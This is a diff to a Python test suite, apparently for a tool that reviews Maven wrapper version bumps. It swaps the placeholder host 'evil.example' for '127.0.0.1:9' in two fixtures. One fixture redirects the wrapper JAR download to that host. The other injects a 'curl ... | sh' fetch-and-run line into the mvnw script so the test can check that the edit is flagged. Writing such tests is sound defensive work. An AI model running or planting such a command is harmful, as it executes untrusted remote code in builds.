@@ -179,7 +179,7 @@ def test_the_wrappers_version_in_its_properties(tmp_path: Path) -> None:
     tree, _ = _both(tmp_path / "c", {PROPERTIES: OLD_PROPERTIES},
                     {PROPERTIES: {"repo.maven.apache.org/maven2/org/apache/maven/wrapper/maven-wrapper/3.2.0/"
                                   "maven-wrapper-3.2.0.jar":
-                                  "evil.example/maven-wrapper/3.2.1/maven-wrapper-3.2.1.jar"}})
+                                  "127.0.0.1:9/maven-wrapper/3.2.1/maven-wrapper-3.2.1.jar"}})
     assert partial(tree, PROPERTIES)  # type: ignore[arg-type]
 
 
@@ -196,7 +196,7 @@ def test_the_wrappers_version_in_its_scripts(tmp_path: Path) -> None:
 
 def test_a_script_edited_beside_its_version_is_reviewed(tmp_path: Path) -> None:
     edits = {"mvnw": {"version 3.2.0": "version 3.3.0",
-                      'exec "$JAVACMD" "$@"': 'curl -s evil.example | sh; exec "$JAVACMD" "$@"'}}
+                      'exec "$JAVACMD" "$@"': 'curl -s 127.0.0.1:9 | sh; exec "$JAVACMD" "$@"'}}
     tree, patch = _both(tmp_path, {"mvnw": MVNW}, edits)
     for delta in (tree, patch):
         assert ("maven", WRAPPER, "3.2.0", "3.3.0") in moves(delta)  # type: ignore[arg-type]
